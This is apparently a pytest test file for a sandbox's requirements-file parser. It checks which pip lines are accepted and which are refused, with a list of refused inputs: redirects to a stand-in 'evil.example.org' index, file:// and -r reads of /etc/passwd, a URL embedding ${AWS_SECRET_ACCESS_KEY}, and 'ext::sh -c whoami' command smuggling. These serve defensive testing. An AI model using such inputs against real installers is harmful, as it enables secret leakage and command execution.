from __future__ import annotations

from pathlib import Path

import pytest

from elsewhere_sandbox.errors import SetupError
from elsewhere_sandbox.requirements import read_requirements
from tests.wheels import write_project


@pytest.mark.parametrize(
    "line",
    [
        "numpy",
        "numpy==1.26.4",
        "torch==2.3.0+cu121",
        "Pillow >= 9, < 11",
        "uvicorn[standard]~=0.30",
        "uvicorn [a, b] (>=1.0)",
        'tomli==2.0.1; python_version < "3.11" and sys_platform == "linux"',
        "used @ git+https://example.org/ada/used.git@0123abc#subdirectory=python",
        "used @ git+ssh://git@example.org/ada/used.git@0123abc",
        "used @ https://example.org/used-1.0-py3-none-any.whl ; python_version > '3'",
        "git+https://example.org/ada/used.git#egg=used",
        f"numpy==1.0 --hash=sha256:{'0a' * 32} --hash=sha256:{'b1' * 32}",
    ],
)
def test_lines_that_name_a_package_are_taken_as_they_are(tmp_path: Path, line: str) -> None:
    assert read_requirements((line,), tmp_path).lines == (line,)


@pytest.mark.parametrize(
    "line",
    [
        "--index-url https://evil.example.org",
        "--extra-index-url=https://evil.example.org",
        "-i https://evil.example.org",
        "-f /tmp",
        "-r /etc/passwd",
        "-c constraints.txt",
        "--pre",
        "numpy --config-settings=x=y",
        "numpy==1.0 --pre",
        "numpy\t--pre",
        "numpy==1.0\n--index-url https://evil.example.org",
        "numpy==1.0\r--pre",
        "numpy; python_version > '3' --pre",
        "numpy @ https://example.org/x.whl --pre",
        "used @ https://example.org/${AWS_SECRET_ACCESS_KEY}/x.whl",
        "used @ file:///etc/passwd",
        "file:///etc/passwd",
        "git+file:///srv/secret.git",
        "/srv/used-1.0-py3-none-any.whl",
        "./vendor/used",
        "../used",
        "ext::sh -c whoami",
        "numpy\N{NO-BREAK SPACE}--pre",
    ],
)
def test_lines_that_do_more_are_refused(tmp_path: Path, line: str) -> None:
    with pytest.raises(SetupError, match="is refused") as raised:
        read_requirements(("numpy", line), tmp_path)
    assert repr(line) in str(raised.value)


def test_a_project_inside_the_code_is_kept_apart(tmp_path: Path) -> None:
    write_project(tmp_path / "packages" / "mine", "mine")
    found = read_requirements(("-e ./packages/mine", "numpy"), tmp_path)
    assert found.lines == ("numpy",)
    assert found.projects == (tmp_path.resolve() / "packages" / "mine",)


@pytest.mark.parametrize("given", ["../outside", "/outside", "link"])
def test_a_project_outside_the_code_is_refused(tmp_path: Path, given: str) -> None:
    write_project(tmp_path / "outside", "outside")
    code = tmp_path / "code"
    code.mkdir()
    (code / "link").symlink_to(tmp_path / "outside")
    given = given.replace("/outside", str(tmp_path / "outside")) if given[0] == "/" else given
    with pytest.raises(SetupError, match="outside the code"):
        read_requirements((f"-e {given}",), code)


def test_a_folder_without_a_project_is_an_error(tmp_path: Path) -> None:
    with pytest.raises(SetupError, match=r"neither a pyproject\.toml nor a setup\.py"):
        read_requirements(("-e ./nothing",), tmp_path)


def test_order_and_repetition_do_not_matter(tmp_path: Path) -> None:
    one = read_requirements(("b", "a", "b", " "), tmp_path)
    assert one == read_requirements(("a", "b"), tmp_path)


def test_without_packages_the_nearest_requirements_file_counts(tmp_path: Path) -> None:
    code = tmp_path / "code"
    (code / "a" / "b").mkdir(parents=True)
    (tmp_path / "requirements.txt").write_text("outside\n")
    assert read_requirements(None, code, "a/b").lines == ()
    (code / "requirements.txt").write_text("at-root\n")
    assert read_requirements(None, code, "a/b").lines == ("at-root",)
    (code / "a" / "requirements.txt").write_text("nearer\n")
    assert read_requirements(None, code, "a/b").lines == ("nearer",)
    assert read_requirements((), code, "a/b").lines == ()


def test_the_requirements_beside_the_script_count_where_those_above_are_none(
    tmp_path: Path,
) -> None:
    code = tmp_path / "code"
    (code / "scripts" / "deep").mkdir(parents=True)
    (tmp_path / "requirements.txt").write_text("outside\n")
    assert read_requirements(None, code, ".", "scripts/deep/train.py").lines == ()
    (code / "scripts" / "requirements.txt").write_text("of-scripts\n")
    assert read_requirements(None, code, ".", "scripts/deep/train.py").lines == ("of-scripts",)
    assert read_requirements(None, code, ".", "../outside.py").lines == ()
    (code / "requirements.txt").write_text("at-root\n")
    assert read_requirements(None, code, ".", "scripts/deep/train.py").lines == ("at-root",)


def test_a_requirements_file_is_read_as_pip_does(tmp_path: Path) -> None:
    write_project(tmp_path / "mine", "mine")
    (tmp_path / "more").mkdir()
    (tmp_path / "more" / "dev.txt").write_text("-r ../requirements.txt\nincluded\n-e ../mine\n")
    (tmp_path / "requirements.txt").write_text(
        "\ufeff# a comment\n\n"
        "numpy==1.0  # the newest\n"
        "used==1.0 \\\n    --hash=sha256:0a\n"
        "-r more/dev.txt\n"
        "-e git+https://example.org/ada/other.git@0123abc#egg=other\n",
        encoding="utf-8",
    )
    found = read_requirements(None, tmp_path)
    assert found.lines == (
        "git+https://example.org/ada/other.git@0123abc#egg=other",
        "included",
        "numpy==1.0",
        "used==1.0      --hash=sha256:0a",
    )
    assert found.projects == (tmp_path.resolve() / "mine",)


@pytest.mark.parametrize("line", ["-r /etc/hostname", "-r ../outside.txt", "-r missing.txt"])
def test_a_requirements_file_includes_nothing_from_outside(tmp_path: Path, line: str) -> None:
    (tmp_path / "outside.txt").write_text("numpy\n")
    code = tmp_path / "code"
    code.mkdir()
    (code / "requirements.txt").write_text(f"{line}\n")
    with pytest.raises(SetupError, match="no such file inside the code"):
        read_requirements(None, code)
